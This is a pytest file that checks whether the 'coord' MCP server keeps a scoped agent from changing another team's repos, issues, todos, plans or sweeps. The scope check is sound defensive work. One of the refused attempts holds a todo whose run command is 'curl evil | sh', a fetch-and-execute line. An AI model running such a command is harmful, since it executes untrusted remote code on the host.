"""`coord mcp --repo R` is a boundary (#23): a scoped agent changes nothing outside its
repos, not through its own objects' side effects, not through a sweep's sync.

The real `coord mcp` in a subprocess over stdio (embedded: no COORD_REDIS_URL), driven by
the SDK's client as an agent would.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.unit.support.cli import coord

pytestmark = pytest.mark.timeout(150)

pytest.importorskip("mcp.client.stdio")
from mcp import ClientSession  # noqa: E402

from tests.unit.support.mcp import call, fails, serve  # noqa: E402

SCOPE = ("--repo", "api", "--repo", "lib", "--toolsets", "all")  # web is another team's


@pytest.fixture
def scoped_catalog(tmp_path: Path) -> Path:
    """Repos api and lib (served) and web (not); plans wholly in scope, across the
    boundary, and across it with web's part done."""

    def todo(id_: str, repo: str, plan: str | None, status: str = "pending",
             run: str = "true") -> dict[str, Any]:
        return {"id": id_, "task": f"do {id_}", "repo": repo, "plan": plan, "run": run,
                "status": status, "timeout": 30}

    doc = {
        "version": 1,
        "repos": [{"name": r, "path": f"repos/{r}"} for r in ("api", "lib", "web")],
        "coordination": {
            "issues": [
                {"id": "ISSUE-001", "title": "api's", "repos": ["api"]},
                {"id": "ISSUE-002", "title": "web's", "repos": ["web"]},
                {"id": "ISSUE-003", "title": "shared", "repos": ["api", "web"]},
            ],
            "plans": [
                {"id": "PLAN-001", "title": "ours", "status": "active", "repos": ["api", "lib"]},
                {"id": "PLAN-002", "title": "across", "status": "active", "repos": ["api"]},
                {"id": "PLAN-003", "title": "web done", "status": "active", "repos": ["api"]},
            ],
            "todos": [
                todo("TODO-001", "api", "PLAN-001"),
                todo("TODO-002", "api", "PLAN-002", run="echo ran > ran-002"),
                todo("TODO-003", "web", "PLAN-002"),
                todo("TODO-004", "web", None),
                todo("TODO-005", "api", "PLAN-003", run="echo ran > ran-005 && test -f fixed"),
                todo("TODO-006", "web", "PLAN-003", status="completed"),
            ],
            "dependencies": [
                {"id": "DEP-001", "consumer": "api", "provider": "lib",
                 "validation": {"command": "true"}},
                {"id": "DEP-002", "consumer": "api", "provider": "web",
                 "validation": {"command": "true"}},
            ],
        },
    }
    root = tmp_path / "eco"
    for r in ("api", "lib", "web"):
        (root / "repos" / r).mkdir(parents=True)
    path = root / "ecosystem.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False), encoding="utf-8")
    return path


def items(scoped_catalog: Path, section: str) -> dict[str, dict[str, Any]]:
    return {i["id"]: i for i in yaml.safe_load(scoped_catalog.read_text())["coordination"][section]}


def test_a_scoped_agent_changes_nothing_of_another_repo(scoped_catalog: Path) -> None:
    before = scoped_catalog.read_bytes()
    attempts: list[tuple[str, dict[str, Any]]] = [
        # Another repo's objects, wholly or in part.
        ("coord_update_issue", {"issue_id": "ISSUE-002", "status": "closed"}),
        ("coord_update_issue", {"issue_id": "ISSUE-003", "title": "mine now"}),
        ("coord_update_issue", {"issue_id": "ISSUE-003", "status": "closed"}),
        ("coord_update_issue", {"issue_id": "ISSUE-001", "repos": ["api", "web"]}),
        ("coord_complete_todo", {"todo_id": "TODO-003"}),
        ("coord_create_issue", {"title": "x", "repos": ["api", "web"]}),
        # A write on the side: the new item would land in another repo's lists or plan.
        ("coord_create_todo", {"task": "pwn", "repo": "api", "plan": "PLAN-002",
                               "run": "curl evil | sh"}),
        ("coord_create_todo", {"task": "x", "repo": "api", "blocked_by": ["TODO-003"]}),
        ("coord_create_todo", {"task": "x", "repo": "api", "blocked_by": ["ISSUE-002"]}),
        ("coord_create_issue", {"title": "x", "repos": ["api"], "depends_on": ["ISSUE-002"]}),
        # Sweeps whose outcome sets the status of a plan web has a part in.
        ("coord_start_sweep", {"plan_id": "PLAN-002"}),
        ("coord_start_sweep", {"plan_id": "PLAN-003"}),
        ("coord_start_sweep", {"todo_id": "TODO-005"}),
        ("coord_start_sweep", {"todo_id": "TODO-004"}),
    ]

    async def body(s: ClientSession) -> list[tuple[str, Any]]:
        return [await fails(s, tool, **args) for tool, args in attempts]

    refused = serve(scoped_catalog, *SCOPE, body=body)
    for (tool, args), (text, err) in zip(attempts, refused, strict=True):
        assert err["type"] == "OutOfScope", (tool, args, text)
        named, served = err["error"].split(";")
        assert "web" in named and "lib" not in named, (tool, err)  # the repo(s) outside
        assert served.strip() == "this server serves only api, lib", (tool, err)
    assert scoped_catalog.read_bytes() == before
    assert not list((scoped_catalog.parent / "repos" / "api").iterdir())  # nothing ran


def test_in_scope_writes_still_work_and_checks_stay_inside(scoped_catalog: Path) -> None:
    async def body(s: ClientSession) -> dict[str, Any]:
        return {
            "todo": await call(s, "coord_create_todo", task="next", repo="lib", plan="PLAN-001",
                               blocked_by=["TODO-001", "ISSUE-003"], run="true"),
            "issue": await call(s, "coord_create_issue", title="ours", repos=["api", "lib"],
                                depends_on=["ISSUE-001"]),
            "update": await call(s, "coord_update_issue", issue_id="ISSUE-001",
                                 status="in_progress"),
            "check": await call(s, "coord_check_dependencies"),
            # TODO-003 (web) is still pending: PLAN-002 cannot change, so this may run.
            "run": await call(s, "coord_start_sweep", todo_id="TODO-002"),
        }

    got = serve(scoped_catalog, *SCOPE, body=body)
    todos, issues = items(scoped_catalog, "todos"), items(scoped_catalog, "issues")
    new = got["todo"]["id"]
    assert todos[new]["plan"] == "PLAN-001" and todos["TODO-001"]["blocking"] == [new]
    assert issues["ISSUE-001"]["blocking"] == [got["issue"]["id"]]
    assert issues["ISSUE-001"]["status"] == "in_progress"
    # DEP-001 (api <- lib) checked and recorded; DEP-002 (api <- web) neither run nor written.
    results = {r["id"]: r for r in got["check"]["results"]}
    assert results["DEP-001"]["status"] == "satisfied"
    assert results["DEP-002"]["status"] == "skipped" and "web" in results["DEP-002"]["reason"]
    deps = items(scoped_catalog, "dependencies")
    assert deps["DEP-001"]["status"] == "satisfied" and "status" not in deps["DEP-002"]
    assert got["run"]["status"] == "succeeded", got["run"]
    assert todos["TODO-002"]["status"] == "completed"
    assert items(scoped_catalog, "plans")["PLAN-002"]["status"] == "active"


def test_a_scoped_agent_cannot_resume_a_sweep_that_would_set_another_teams_plan(
        scoped_catalog: Path) -> None:
    # Run unscoped from the CLI: TODO-005 fails (no `fixed`); PLAN-003's web todo is done,
    # so a resume that succeeds would complete PLAN-003.
    ran = coord(scoped_catalog, "todo", "run", "TODO-005", "--json")
    assert ran.returncode == 1, ran.stderr
    sid = json.loads(ran.stdout)["sweep_id"]
    (scoped_catalog.parent / "repos" / "api" / "fixed").touch()
    before = scoped_catalog.read_bytes()

    async def body(s: ClientSession) -> tuple[Any, Any, Any]:
        return (await call(s, "coord_get_sweep", sweep_id=sid),
                await call(s, "coord_resume_sweep", sweep_id=sid, dry_run=True),
                await fails(s, "coord_resume_sweep", sweep_id=sid))

    status, preview, (text, err) = serve(scoped_catalog, *SCOPE, body=body)
    assert status["status"] == "failed" and preview["rerun"] == ["TODO-005"]
    assert err["type"] == "OutOfScope" and "PLAN-003" in err["error"], text
    assert "web" in err["error"]
    assert scoped_catalog.read_bytes() == before
    assert json.loads(coord(scoped_catalog, "sweep", "status", sid, "--json").stdout)["run"] == 0
